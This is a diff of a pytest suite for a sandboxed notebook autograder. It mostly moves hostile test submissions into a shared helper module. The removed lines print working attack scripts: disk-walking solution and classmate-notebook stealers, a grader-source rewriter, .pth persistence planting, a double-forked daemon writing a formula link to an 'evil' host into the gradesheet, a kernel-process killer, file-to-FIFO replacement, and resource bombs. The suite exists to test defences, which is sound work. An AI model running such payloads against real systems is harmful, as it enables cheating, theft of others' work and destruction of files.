@@ -10,16 +10,16 @@ unearned mark, keep every honest mark and write every row. A second, small run c
 (time, memory, processes, kernel death, fakes) on tiny notebooks, and a third per-student
 variants with a roster and the exports.
 
+The submissions, honest and hostile, and what each honestly earns are built by
+``tools/demo_class.py`` (``build_class``), which also runs the measured demonstration of the issue.
 The attacks that need the sandbox to be harmless run only when bubblewrap works here (``make test``
 installs it as root); without it those tests are skipped with the grader's own warning as reason.
 Each run is computed once per test session, also under pytest-xdist (a file lock).
 """
 from __future__ import annotations
 
-import copy
 import csv
 import fcntl
-import hashlib
 import io
 import json
 import os
@@ -36,11 +36,12 @@ nbformat = pytest.importorskip("nbformat")
 
 from scaling_lib import grading  # noqa: E402
 from scaling_lib.exercises import chapter_params, draw, for_chapter  # noqa: E402
-from scaling_lib.grading import _batch, _sandbox  # noqa: E402
+from scaling_lib.grading import _sandbox  # noqa: E402
 
 ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT / "tools"))
+import demo_class  # noqa: E402  (the class and its attacks: one place, shared with the demonstration)
 REFS = sorted((ROOT / "exercises").glob("*.ipynb"))
-REF1 = ROOT / "exercises" / "01_roofline.ipynb"
 MAX = {c: int(sum(e.points for e in for_chapter(c))) for c in range(13)}
 MARKER = "EVIL_DAEMON_" + uuid.uuid4().hex[:8]
 
@@ -79,287 +80,12 @@ def _shared(tmp_path_factory, name, compute):
         return json.loads(result.read_text(encoding="utf-8"))
 
 
-def _clean(nb):
-    nb = copy.deepcopy(nb)
-    for c in nb.cells:
-        if c.cell_type == "code":
-            c.outputs, c.execution_count = [], None
-    return nb
-
-
-def _tiny(cells):
-    nb = nbformat.v4.new_notebook()
-    nb.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
-    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
-    return nb
-
-
-def _append(nb, code):
-    nb = _clean(nb)
-    cell = nbformat.v4.new_code_cell(code)
-    cell["id"] = f"extra{len(nb.cells)}"
-    nb.cells.append(cell)
-    return nb
-
-
-def _sources_hash() -> str:
-    h = hashlib.sha256()
-    for p in sorted((ROOT / "scaling_lib").rglob("*.py")) + REFS:
-        h.update(p.read_bytes())
-    return h.hexdigest()
-
-
-def _site_dirs():
-    import site
-    import sysconfig
-    dirs = set(site.getsitepackages() + [site.getusersitepackages(), sysconfig.get_paths()["purelib"]])
-    return sorted(d for d in dirs if d and os.path.isdir(d))
-
-
-# ---- the attacks (run inside the submission's kernel) ------------------------------------------------
-
-ANSWER_VARS = "times i_crit_ici t_dot fp8_intensity_rule two_chip two_chip_bound b_star_int8 b_crit_w8_h100".split()
-CH1_CHECKS = "".join(f'# check("1.{i}")\n' for i in (1, 2, 4))
-
-KEY_READER = CH1_CHECKS + """
-import os, glob, time
-found = []
-try:                                   # 1. the registry in the library the kernel imports
-    from scaling_lib.exercises import get
-    for i, v in [("1.2", "i_crit_ici"), ("1.3b", "t_dot"), ("1.4b", "fp8_intensity_rule"), ("1.1", "times")]:
-        globals()[v] = get(i).reference()
-    found.append("registry")
-except Exception:
-    pass
-try:                                   # 2. a grader that can still judge: evaluate() with the key
-    import scaling_lib.grading as G
-    if hasattr(G, "evaluate"):
-        found.append("grader")
-except Exception:
-    pass
-for p in [%(refs)r, "/exercises", "/work", os.path.expanduser("~")]:   # 3. the reference notebooks
-    for f in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:50]:
-        try:
-            text = open(f, encoding="utf-8").read()
-        except Exception:
-            continue
-        if "BEGIN SOLUTION" in text:
-            found.append(f)
-            i_crit_ici = 10222.2
-t0 = time.time()
-for d, dirs, files in os.walk("/"):    # 4. anything on the disk that looks like the key
-    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev")):
-        dirs[:] = []
-        continue
-    for f in files:
-        if f.endswith((".ipynb", ".py", ".json")):
-            try:
-                text = open(os.path.join(d, f), encoding="utf-8", errors="replace").read(2_000_000)
-            except Exception:
-                continue
-            if "BEGIN SOLUTION" in text or "EXERCISES = [" in text or 'check("1.4b", fp8_intensity_rule)' in text:
-                found.append(os.path.join(d, f))
-                fp8_intensity_rule = 'B'
-print("FOUND", found)
-"""
-
-CLASSMATE_READER = CH1_CHECKS + """
-import os, json, time
-t0, stolen = time.time(), []
-for d, dirs, files in os.walk("/"):
-    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev", "/usr")):
-        dirs[:] = []
-        continue
-    for f in files:
-        if f.endswith(".ipynb") or f.endswith(".json"):
-            try:
-                nb = json.load(open(os.path.join(d, f), encoding="utf-8"))
-                code = [''.join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
-            except Exception:
-                continue
-            if any('check("1.2"' in c for c in code):
-                stolen.append(os.path.join(d, f))
-                for c in code:
-                    try:
-                        exec(c.replace("check(", "print("), globals())
-                    except Exception:
-                        pass
-print("STOLEN", stolen)
-"""
-
-REWRITER = CH1_CHECKS + """
-import os, sys, glob
-hit = []
-import scaling_lib
-targets = glob.glob(os.path.join(os.path.dirname(scaling_lib.__file__), "**", "*.py"), recursive=True)
-targets += glob.glob(%(root)r + "/scaling_lib/**/*.py", recursive=True) + glob.glob("/grader/**/*.py", recursive=True)
-for f in targets:
-    try:
-        with open(f, "a") as fh:
-            fh.write("\\nraise SystemExit('pwned by a submission')\\n")
-        hit.append(f)
-    except Exception:
-        pass
-for f in glob.glob(%(root)r + "/exercises/*.ipynb"):
-    try:
-        open(f, "w").write("{}")
-        hit.append(f)
-    except Exception:
-        pass
-print("REWROTE", hit)
-"""
-
-PTH = CH1_CHECKS + """
-import os, sys, site, sysconfig
-payload = "import os; os.environ.get('GRADER_REPORT_FD') and os._exit(3)\\n"
-planted = []
-dirs = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), sysconfig.get_paths()["purelib"]}
-dirs |= set(%(sites)r)
-for d in dirs:
-    try:
-        os.makedirs(d, exist_ok=True)
-        with open(os.path.join(d, "zz_evil_%(tag)s.pth"), "w") as f:
-            f.write(payload)
-        planted.append(d)
-    except Exception:
-        pass
-print("PLANTED", planted)
-"""
-
-DAEMON = CH1_CHECKS + """
-import os, sys, time
-code = '''
-import os, time, glob
-t0 = time.time()
-while time.time() - t0 < 40:
-    for p in glob.glob("/proc/[0-9]*/cwd") + [%(sheet)r, "/proc/1/cwd/scores.csv"]:
-        for f in ([p] if p.endswith(".csv") else [os.path.join(p, "scores.csv"), os.path.join(p, "..", "scores.csv")]):
-            try:
-                with open(f, "a") as fh:
-                    fh.write('=HYPERLINK("http://evil","x")\\\\n')
-            except Exception:
-                pass
-    time.sleep(0.5)
-'''
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        os.execv(sys.executable, [sys.executable, "-c", code, %(marker)r])
-    os._exit(0)
-time.sleep(1)
-"""
-
-KILLER = CH1_CHECKS + """
-import os, signal, time
-me, killed = os.getpid(), []
-t0 = time.time()
-while time.time() - t0 < 25:
-    for pid in os.listdir("/proc"):
-        if not pid.isdigit() or int(pid) in (me, os.getppid()):
-            continue
-        try:
-            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
-        except Exception:
-            continue
-        if b"kernel.py" in cmd or b"ipykernel" in cmd or b"runner.py" in cmd:
-            try:
-                os.kill(int(pid), signal.SIGKILL)
-                killed.append(int(pid))
-            except Exception:
-                pass
-    time.sleep(0.2)
-print("KILLED", killed)
-"""
-
-FIFO_EVERYWHERE = """
-import os, stat, glob
-made = []
-dirs = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~")}
-dirs |= {d for d in glob.glob("/tmp/*") if os.path.isdir(d)}
-for d in dirs:
-    for name in os.listdir(d) + ["runner.log", "report.json", "report.tmp", "job.json"]:
-        p = os.path.join(d, name)
-        try:
-            if os.path.isdir(p):
-                continue
-            if os.path.exists(p):
-                os.unlink(p)
-            os.mkfifo(p)
-            made.append(p)
-        except Exception:
-            pass
-io_dir = "/tmp/grader-io"
-if os.path.isdir(io_dir):                     # predict the next answer files: FIFOs there too
-    names = sorted(os.listdir(io_dir))
-    for n in names:
-        stem = n.split(".")[0]
-        if "-" in stem:
-            nonce, k = stem.rsplit("-", 1)
-            for j in range(int(k) + 1, int(k) + 40):
-                try:
-                    os.mkfifo(os.path.join(io_dir, f"{nonce}-{j}.json"))
-                except Exception:
-                    pass
-print("FIFOS", len(made))
-"""
-
-BIG_OUTPUT = """
-import os, sys
-chunk = "x" * (1 << 20)
-for _ in range(200):
-    print(chunk)
-for _ in range(100):
-    os.write(1, b"y" * (1 << 20))
-    os.write(2, b"z" * (1 << 20))
-from IPython.display import display
-display({"text/plain": "w" * (50 << 20)}, raw=True)
-"""
-
-DEV_ZERO = CH1_CHECKS + """
-data = open("/dev/zero", "rb").read()
-i_crit_ici = 10222.2
-"""
-
-
 def _class_run(folder: Path) -> dict:
     subs = folder / "class"
-    subs.mkdir()
     out = folder / "gradebook" / "scores.csv"
-    ref1 = nbformat.read(REF1, as_version=4)
-    sheet_guess = str(out)
-
-    def write(name, nb):
-        nbformat.write(nb, subs / f"{name}.ipynb")
-
-    # honest
-    for p in REFS:
-        write(f"honest{p.stem[:2]}_{p.stem}", _clean(nbformat.read(p, as_version=4)))
-    text = nbformat.writes(_clean(ref1))
-    (subs / "bomcrlf_01_roofline.ipynb").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
-    (subs / "nbv3_01_roofline.ipynb").write_text(nbformat.writes(nbformat.convert(_clean(ref1), 3), version=3),
-                                                 encoding="utf-8")
-    write("blank_01_roofline", grading.strip_notebook(ref1, REF1.name))
-    tiny_answer = _clean(ref1)
-    i = next(k for k, c in enumerate(tiny_answer.cells) if 'check("1.2"' in c.source)
-    tiny_answer.cells[i].source = tiny_answer.cells[i].source.replace("check(", "i_crit_ici = 5e-324\ncheck(")
-    write("tinyanswer_01_roofline", tiny_answer)
-    write("bigoutput_01_roofline", _append(ref1, BIG_OUTPUT))
-    # hostile, tiny (they answer nothing honestly: every mark they get is unearned). Never run
-    # them outside a working sandbox: FIFO_EVERYWHERE alone replaces every file in /tmp/* and ~.
-    if WEAK is None:
-        write("fifolog_01_roofline", _append(ref1, FIFO_EVERYWHERE))
-        write("a1killer_01_roofline", _tiny([KILLER]))
-        write("a2pth_01_roofline", _tiny([PTH % {"sites": _site_dirs(), "tag": MARKER}]))
-        write("a3rewriter_01_roofline", _tiny([REWRITER % {"root": str(ROOT)}]))
-        write("a4keyreader_01_roofline", _tiny([KEY_READER % {"refs": str(ROOT / "exercises")}]))
-        write("a5classmate_01_roofline", _tiny([CLASSMATE_READER]))
-        write("a6daemon_01_roofline", _tiny([DAEMON % {"sheet": sheet_guess, "marker": MARKER}]))
-        write("a7devzero_01_roofline", _tiny([DEV_ZERO]))
-    (subs / "a8symlink_01_roofline.ipynb").symlink_to(subs / "honest01_01_roofline.ipynb")
-    (subs / "a9zero_01_roofline.ipynb").symlink_to("/dev/zero")
-    os.mkfifo(subs / "b0fifo_01_roofline.ipynb")
-
-    before = _sources_hash()
+    # the hostile ones only inside a working sandbox: FIFO_EVERYWHERE alone replaces every file in /tmp/* and ~
+    expect = demo_class.build_class(subs, out, MARKER, hostile=WEAK is None, partials=False)
+    before = demo_class.sources_hash()
     # the teacher's way: a fresh process (the expected values of chapter 10 need JAX set up first)
     code = ("import json, resource, sys, time\n"
             "from scaling_lib import grading\nfrom scaling_lib.grading import _batch\n"
@@ -378,19 +104,9 @@ def _class_run(folder: Path) -> dict:
     graded = json.loads(proc.stdout.strip().splitlines()[-1])
     sheet = out.read_bytes()
     time.sleep(4)  # a daemon that survived would write to the sheet now
-    alive = []
-    for pid in os.listdir("/proc"):
-        try:
-            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
-                alive.append(pid)
-        except OSError:
-            pass
-    planted = [str(p) for d in _site_dirs() for p in Path(d).glob(f"zz_evil_{MARKER}.pth")]
-    for p in planted:  # never leave one behind, even when the test fails
-        os.unlink(p)
-    return {**graded, "log": proc.stderr[-4000:], "sheet_same": out.read_bytes() == sheet,
-            "sheet": sheet.decode("utf-8-sig"), "alive": alive, "planted": planted,
-            "sources_same": _sources_hash() == before, "files": sorted(p.name for p in subs.iterdir()),
+    after = demo_class.aftermath(MARKER, out, sheet, before)
+    return {**graded, **after, "log": proc.stderr[-4000:], "sheet": sheet.decode("utf-8-sig"),
+            "expected": expect, "files": sorted(p.name for p in subs.iterdir()),
             "feedback": sorted(p.name for p in (out.parent / "feedback").iterdir())}
 
 
@@ -446,6 +162,10 @@ def test_fifos_in_place_of_the_runners_files_do_not_hang_anything(run):
 
 # ---- every row is written, files that are not notebooks get a reason ----------------------------------
 
+def test_every_row_is_what_that_submission_honestly_earns(run):
+    assert demo_class.compare(run["expected"], list(run["results"].values())) == []
+
+
 def test_every_submission_has_a_row_and_a_feedback_file(run):
     rows = list(csv.reader(io.StringIO(run["sheet"])))
     names = {Path(r[0]).name for r in rows[1:]}
@@ -467,8 +187,7 @@ def test_links_and_pipes_in_the_folder_are_refused_with_a_reason(run):
 
 # ---- no unearned mark, and nobody hurts anybody else ---------------------------------------------------
 
-HOSTILE = ["a1killer_01_roofline", "a2pth_01_roofline", "a3rewriter_01_roofline", "a4keyreader_01_roofline",
-           "a5classmate_01_roofline", "a6daemon_01_roofline", "a7devzero_01_roofline"]
+HOSTILE = demo_class.HOSTILE
 
 
 @needs_sandbox
@@ -527,6 +246,14 @@ def bomb(deadline):
 bomb(time.time() + 6)
 fp8_intensity_rule = 'B'
 """
+TREE_HOG = """\
+import subprocess, sys
+fill = "b = bytearray(450 << 20)\\nfor i in range(0, len(b), 4096):\\n    b[i] = 1\\nimport time; time.sleep(4)"
+hogs = [subprocess.Popen([sys.executable, "-c", fill]) for _ in range(3)]
+codes = [h.wait() for h in hogs]
+print(codes)
+fp8_intensity_rule = 'B'
+"""
 LIMIT_SUBS = {
     "slow": ["i_crit_ici = 10222.2  # check('1.2', i_crit_ici)", "import time\ntime.sleep(8)", "time.sleep(8)",
              "time.sleep(8)", "time.sleep(8)", "two_chip_bound = 'B'"],
@@ -538,7 +265,9 @@ LIMIT_SUBS = {
     "fakecheck": [FAKE_CHECK],
     "monkey": [MONKEYPATCH],
     "raises": ["raise RuntimeError('oops')\ni_crit_ici = 10222.2  # check('1.2', i_crit_ici)", "two_chip_bound = 'B'"],
+    "treehog": ["i_crit_ici = 10222.2  # check('1.2', i_crit_ici)", TREE_HOG, "two_chip_bound = 'B'"],
 }
+TREE_MEMORY = "memory" in ISO.controllers and ISO.cgroup is not None
 
 
 def _limits_run(folder: Path) -> dict:
@@ -546,8 +275,10 @@ def _limits_run(folder: Path) -> dict:
     for name, cells in LIMIT_SUBS.items():
         if name == "forkbomb" and WEAK is not None:
             continue  # without the sandbox nothing caps the processes of one submission
+        if name == "treehog" and not TREE_MEMORY:
+            continue  # without a memory cgroup the limit is per process (RLIMIT_DATA)
         p = folder / f"{name}_01_roofline.ipynb"
-        nbformat.write(_tiny(cells), p)
+        nbformat.write(demo_class.tiny(cells), p)
         files.append(p)
     out = folder / "s.csv"
     t0 = time.monotonic()
@@ -580,6 +311,16 @@ def test_memory_limit_is_a_memory_error_in_that_cell_only(limits):
     s = limits["results"]["hog"]  # 2 GiB > 1 GiB
     assert _pts(s)["1.2"] == 1 and _pts(s)["1.5b"] == 1 and _pts(s)["1.4b"] == 0
     assert any("MemoryError" in n for n in s["notes"])
+
+
+@pytest.mark.skipif(not TREE_MEMORY, reason="no memory cgroup here: the memory limit is per process")
+def test_memory_limit_covers_the_whole_process_tree(limits):
+    """Three child processes of 450 MB each (each below the kernel's own limit, 1.35 GB together):
+    the tree's limit (1024 MB) holds, the grader says so, what was answered before counts."""
+    s = limits["results"]["treehog"]
+    assert any("超出了内存上限（1024 MB）" in n for n in s["notes"]), s["notes"]
+    assert s["peak_mb"] is not None and s["peak_mb"] <= 1024 + 1, s["peak_mb"]
+    assert _pts(s)["1.2"] == 1 and s["max"] == MAX[1]
 
 
 def test_endless_loop_costs_its_cell_only(limits):
